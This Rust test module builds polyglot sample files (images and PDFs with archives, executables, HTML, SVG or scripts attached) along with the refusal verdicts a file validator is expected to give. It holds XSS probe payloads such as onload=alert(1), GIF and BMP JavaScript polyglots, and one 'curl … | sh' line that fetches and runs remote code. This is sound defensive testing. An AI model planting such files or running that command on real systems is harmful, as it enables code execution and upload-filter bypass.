//! Files of two kinds at once: pictures and PDFs that other programs open as archives, pages, programs or other documents; and
//! what cameras write behind a picture, which is none of that.

use image::ImageFormat;

use super::Sample;
use super::pdfs::{by_hand, document};
use super::pictures::{drawn, encoded};
use crate::papers::saved;

const TWO: &[&str] = &["{\"refused\":\"two_kinds\"}"];
const NOT_ALLOWED: &[&str] = &["{\"refused\":\"not_allowed\"}"];
const PDF: &[&str] = &["{\"taken\":\"pdf\"}"];

const PAGE: &[u8] = b"<!DOCTYPE html><HTML><body onload=alert(1)>sign in here</body></HTML>";
const SCRIPT: &[u8] = b"<ScRiPt>alert(1)</script>";
const DRAWING: &[u8] =
    b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><rect width=\"9\"/></svg>";

/// An archive with one file, not packed (APPNOTE.TXT 4.3), and a remark at its end.
fn archive(remark: &[u8]) -> Vec<u8> {
    let (name, body) = (b"run.js", b"WScript.Echo(1)");
    let short = |number: usize| u16::try_from(number).expect("short").to_le_bytes();
    let long = |number: usize| u32::try_from(number).expect("short").to_le_bytes();
    let sum = crc::Crc::<u32>::new(&crc::CRC_32_ISO_HDLC).checksum(body).to_le_bytes();
    // Version, flags, method, time and date; then the sum and both lengths, and that of the name.
    let about = [
        &[20, 0, 0, 0, 0, 0, 0, 0, 0, 0][..],
        &sum,
        &long(body.len()),
        &long(body.len()),
        &short(name.len()),
        &[0, 0],
    ];
    let about = about.concat();
    let mut bytes = [b"PK\x03\x04", about.as_slice(), name, body].concat();
    let entry = [b"PK\x01\x02\x14\0", about.as_slice(), &[0; 14], name].concat();
    let place = bytes.len();
    bytes.extend_from_slice(&entry);
    bytes.extend_from_slice(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
    bytes.extend_from_slice(&[long(entry.len()), long(place)].concat());
    bytes.extend_from_slice(&short(remark.len()));
    bytes.extend_from_slice(remark);
    bytes
}

fn program() -> Vec<u8> {
    [b"MZ".as_slice(), &[0; 0x3a], &[0x40, 0, 0, 0], b"PE\0\0", &[0x64, 0x86], &[0; 200]].concat()
}

/// What makes a second file of whatever it stands behind, and whether that is seen where a file has no end.
fn others() -> Vec<(&'static str, Vec<u8>, bool)> {
    vec![
        ("a PDF", saved(document("1.7", 1).0), true),
        ("an archive", archive(b""), true),
        ("an archive with a remark", archive(&vec![b'-'; 60_000]), true),
        ("a rar archive", b"Rar!\x1a\x07\x01\0and so on".to_vec(), true),
        ("a 7z archive", b"7z\xbc\xaf\x27\x1c\0\x04and so on".to_vec(), true),
        ("a page", PAGE.to_vec(), true),
        ("a script", SCRIPT.to_vec(), true),
        ("a drawing, SVG", DRAWING.to_vec(), true),
        ("a Windows program", program(), false),
        ("a Linux program", b"\x7fELF\x02\x01\x01\0".to_vec(), false),
    ]
}

/// What stands behind pictures as they come: a second picture, a film, a maker's trailer, filling, words.
fn harmless() -> Vec<(&'static str, Vec<u8>)> {
    let picture = encoded(&drawn(41, 29), ImageFormat::Jpeg).expect("a picture");
    let film = [b"\0\0\0\x20ftypisom\0\0\x02\0isomiso2".as_slice(), &[0x5a; 9_000]].concat();
    vec![
        ("a second picture", picture),
        ("a film", film),
        ("a maker's trailer", b"\0\0\x01\x0a\x0e\0\0\0Image_UTC_Data1600000000000SEFHj\0\0\0SEFT".to_vec()),
        ("zeros", vec![0; 70_000]),
        ("words of archives", b"\nPK and MZ and Rar! are letters, and a < b in html\n".to_vec()),
    ]
}

fn behind(samples: &mut Vec<Sample>) {
    let formats: [(ImageFormat, &[&str]); 3] = [
        (ImageFormat::Jpeg, &["{\"taken\":\"jpeg\"}"]),
        (ImageFormat::Png, &["{\"taken\":\"png\"}"]),
        (ImageFormat::Tiff, &["{\"taken\":\"tiff\"}"]),
    ];
    for (format, taken) in formats {
        let picture = encoded(&drawn(160, 120), format).expect("a picture");
        for (name, other, anywhere) in others() {
            if anywhere || format != ImageFormat::Tiff {
                let bytes = [picture.as_slice(), &other].concat();
                samples.push(Sample::new(format!("{format:?} with {name} behind its end"), bytes, TWO));
            }
        }
        for (name, more) in harmless() {
            let bytes = [picture.as_slice(), &more].concat();
            samples.push(Sample::new(format!("{format:?} with {name} behind its end"), bytes, taken));
        }
    }
    let whole = saved(document("1.7", 2).0);
    for (name, other, _) in others().into_iter().filter(|(name, ..)| *name != "a PDF") {
        let bytes = [whole.as_slice(), &other].concat();
        samples.push(Sample::new(format!("PDF with {name} behind its end"), bytes, TWO));
    }
    for (name, more) in harmless() {
        let bytes = [whole.as_slice(), &more].concat();
        samples.push(Sample::new(format!("PDF with {name} behind its end"), bytes, PDF));
    }
}

/// A JPEG with a remark right behind its beginning.
fn remarked_jpeg(remark: &[u8]) -> Vec<u8> {
    let picture = encoded(&drawn(160, 120), ImageFormat::Jpeg).expect("a picture");
    let length = u16::try_from(remark.len() + 2).expect("short").to_be_bytes();
    [&picture[..2], b"\xff\xfe", &length, remark, &picture[2..]].concat()
}

/// A PNG with a text right behind its header.
fn remarked_png(remark: &[u8]) -> Vec<u8> {
    let picture = encoded(&drawn(160, 120), ImageFormat::Png).expect("a picture");
    let length = u32::try_from(remark.len() + 8).expect("short").to_be_bytes();
    let text = [b"tEXtComment\0", remark].concat();
    let sum = crc::Crc::<u32>::new(&crc::CRC_32_ISO_HDLC).checksum(&text).to_be_bytes();
    [&picture[..33], &length, &text, &sum, &picture[33..]].concat()
}

fn before(samples: &mut Vec<Sample>) {
    let hidden = saved(document("1.4", 1).0);
    for (name, remark, verdict) in
        [("a PDF", hidden.as_slice(), true), ("words", b"Taken by a telephone.".as_slice(), false)]
    {
        let verdicts: [&[&str]; 2] =
            if verdict { [TWO, TWO] } else { [&["{\"taken\":\"jpeg\"}"], &["{\"taken\":\"png\"}"]] };
        samples.push(Sample::new(
            format!("JPEG with {name} in its remark"),
            remarked_jpeg(remark),
            verdicts[0],
        ));
        samples.push(Sample::new(format!("PNG with {name} in its text"), remarked_png(remark), verdicts[1]));
    }
    let catalog = "<< /Type /Catalog /Pages 2 0 R >>".to_owned();
    let pages = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned();
    let page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>".to_owned();
    let plain = by_hand(&[catalog, pages, page]);
    let line = |words: &[u8]| [&plain[..9], b"%", words, b"\n", &plain[9..]].concat();
    samples.push(Sample::new("PDF, by hand", plain.clone(), PDF));
    samples.push(Sample::new("PDF that is a page before its first object", line(PAGE), TWO));
    let befores: [(&str, &[u8], &[&str]); 5] = [
        ("a page", PAGE, TWO),
        ("a script", b"#!/bin/sh\ncurl files.example.test | sh\nexit\n", TWO),
        ("a program of words", b"var a = 1; alert(a); /*", TWO),
        ("blank lines", b"\r\n\r\n \t\n", PDF),
        ("a mark of Unicode", b"\xef\xbb\xbf", PDF),
    ];
    for (name, more, verdict) in befores {
        samples.push(Sample::new(format!("{name} with a PDF behind"), [more, &plain].concat(), verdict));
    }
    let in_archive = [archive(b"").as_slice(), &plain].concat();
    samples.push(Sample::new("an archive with a PDF behind it", in_archive, NOT_ALLOWED));
    samples.push(Sample::new(
        "a program with a PDF behind it",
        [program(), plain.clone()].concat(),
        NOT_ALLOWED,
    ));
    let script = b"GIF89a/*\x01\0\x80\0\0\0\0\0\xff\xff\xff*/=1;alert(1);//;".to_vec();
    samples.push(Sample::new("a GIF that is a program", script, NOT_ALLOWED));
    samples.push(Sample::new("a bitmap that is a program", b"BM/*\0\0*/=1;alert(1);".to_vec(), NOT_ALLOWED));
    let drawing = [DRAWING, &encoded(&drawn(41, 29), ImageFormat::Png).expect("a picture")].concat();
    samples.push(Sample::new("an SVG with a PNG behind it", drawing, NOT_ALLOWED));
    let inside = [b"\x89PNG\r\n\x1a\n", DRAWING].concat();
    samples.push(Sample::new(
        "an SVG behind the signature of a PNG",
        inside,
        &["{\"refused\":\"picture_broken\"}"],
    ));
}

pub(super) fn samples() -> Vec<Sample> {
    let mut samples = Vec::new();
    behind(&mut samples);
    before(&mut samples);
    samples
}
